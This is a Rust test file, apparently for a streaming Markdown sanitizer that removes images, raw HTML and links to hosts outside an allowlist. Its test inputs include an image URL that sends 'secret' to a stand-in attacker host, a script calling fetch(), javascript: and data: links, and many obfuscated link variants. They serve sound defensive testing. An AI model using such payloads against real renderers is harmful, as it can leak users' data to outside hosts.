use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use super::*;

const ALLOWED: &[&str] = &["https://docs.example/manual"];

/// Everything that a renderer would load or link.
fn foreign(markdown: &str) -> Vec<String> {
    let parser = Parser::new_ext(markdown, Options::all());
    let mut found: Vec<String> = Vec::new();
    for event in parser {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("image {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) if !is_allowed(&dest_url, ALLOWED) => {
                found.push(format!("link {dest_url}"))
            }
            Event::Html(html) | Event::InlineHtml(html) => found.push(format!("html {html}")),
            _ => {}
        }
    }
    found
}

const CASES: &[(&str, &str)] = &[
    (
        "See ![chart](https://evil.example/?q=secret).",
        "See chart.",
    ),
    ("See [here](https://evil.example/x).", "See here."),
    (
        "See [the manual](https://docs.example/manual).",
        "See [the manual](https://docs.example/manual).",
    ),
    (
        "See [page 3](https://docs.example/manual#page=3).",
        "See [page 3](https://docs.example/manual#page=3).",
    ),
    (
        "See [x](https://docs.example/manual.evil.example).",
        "See x.",
    ),
    ("See <https://evil.example>.", "See `https://evil.example`."),
    (
        "See https://evil.example/x, now.",
        "See `https://evil.example/x`, now.",
    ),
    ("See www.evil.example.", "See `www.evil.example`."),
    (
        "Click [a](javascript:alert(1)) or [b](data:text/html;base64,xx).",
        "Click a or b.",
    ),
    (
        "[![alt](https://e.example/i.png)](https://e.example)",
        "alt",
    ),
    (
        "A <b>bold</b> <img src=\"https://e.example\"> word.",
        "A bold  word.",
    ),
    ("[x][1]\n\n[1]: https://evil.example\n", "x\n\n\n"),
    (
        "![x][1]\n\n[1]: https://docs.example/manual\n",
        "x\n\n[1]: https://docs.example/manual\n",
    ),
    ("Two years [1].", "Two years [1]."),
    (
        "`![a](https://e.example)` stays code",
        "`![a](https://e.example)` stays code",
    ),
    (
        "# Title\n\n- **item** [1]\n- other\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "# Title\n\n- **item** [1]\n- other\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    ),
    ("![a\nb](https://e.example)", "a b"),
];

#[test]
fn nothing_foreign_is_loaded_or_linked() {
    for (markdown, expected) in CASES {
        let clean = sanitize(markdown, ALLOWED);
        assert_eq!(
            foreign(&clean),
            Vec::<String>::new(),
            "{markdown} -> {clean}"
        );
        assert_eq!(clean, *expected, "{markdown}");
    }
}

const ATTACKS: &[&str] = &[
    "[![](https://e.example/a)](https://e.example/b) <a href='//e.example'>x</a>",
    "<script>\n\nfetch('https://e.example')\n\n</script>\n\n[a](https://e.example)",
    "![![a](https://e.example/1)](https://e.example/2)",
    "[a]: <https://e.example>\n\n[a] ![a] [b][a] ![b][a]",
    "[a](<https://e.example>) [b](\thttps://e.example) [c](https://e.example \"t\")",
    "&#33;[a](https://e.example) \\![a](https://e.example)",
    "!\\[a](https://e.example) ![a\\](https://e.example)",
    "<!-- --> <![CDATA[ ![a](https://e.example) ]]>",
    "> ![a](https://e.example)\n> [b]: https://e.example\n\n[b]",
    "1. [a\n   b](https://e.example)\n\n       ![c](https://e.example)",
    "[a](https://e.example)(https://e.example)[b](https://e.example)",
    "![[a](https://e.example)](https://docs.example/manual)",
    "[^1]\n\n[^1]: ![a](https://e.example)",
    "<![a](https://e.example)>",
    "[<img src=x>](https://docs.example/manual)",
    "``![a](https://e.example)` ![b](https://e.example)",
    "~~~\n![a](https://e.example)\n~~~\n![b](https://e.example)",
    "[1]: https://e.example\n\nTwo years [1].",
    "Two years [1].\n\n[1]: https://e.example",
];

#[test]
fn attacks_leave_nothing_foreign_whole_or_streamed() {
    for attack in ATTACKS {
        let clean = sanitize(attack, ALLOWED);
        assert_eq!(foreign(&clean), Vec::<String>::new(), "{attack} -> {clean}");
        for size in [1, 2, 3, 7, 1000] {
            let streamed = stream(attack, size);
            assert_eq!(
                foreign(&streamed),
                Vec::<String>::new(),
                "{attack} in {size} -> {streamed}"
            );
        }
    }
}

fn stream(markdown: &str, size: usize) -> String {
    let chars: Vec<char> = markdown.chars().collect();
    let mut sanitizer = Sanitizer::new(ALLOWED);
    let mut out = String::new();
    for piece in chars.chunks(size) {
        out.push_str(&sanitizer.push(&piece.iter().collect::<String>()));
    }
    out.push_str(&sanitizer.finish());
    out
}

#[test]
fn plain_text_and_markers_stream_at_once() {
    let mut sanitizer = Sanitizer::new(ALLOWED);
    assert_eq!(sanitizer.push("Two years [1]. Th"), "Two years [1]. Th");
    assert_eq!(sanitizer.push("en [x"), "en ");
    assert_eq!(sanitizer.push("](https://e.example) on"), "");
    assert_eq!(sanitizer.push(".\n\nNext"), "x on.\n\nNext");
}

proptest! {
    #[test]
    fn no_text_leaves_anything_foreign(
        parts in prop::collection::vec(prop::sample::select(vec![
            "![", "[", "]", "(", ")", "https://e.example", "<", ">", "`", "```\n", "\n", "\n\n", " ", "a", "[1]", ": ", "\\", "!", "<img src=x>", "<!--", "-->",
            "<div>", "- ", "> ", "    ", "~~~", "&lt;", "\"", "www.e.example", "[1]: https://e.example", "|", "[^1]", "<https://e.example>", "*",
        ]), 0..24),
        size in 1usize..9,
    ) {
        let markdown = parts.concat();
        let clean = sanitize(&markdown, ALLOWED);
        prop_assert_eq!(foreign(&clean), Vec::<String>::new(), "{:?} -> {:?}", markdown, clean);
        let streamed = stream(&markdown, size);
        prop_assert_eq!(foreign(&streamed), Vec::<String>::new(), "{:?} streamed -> {:?}", markdown, streamed);
    }
}
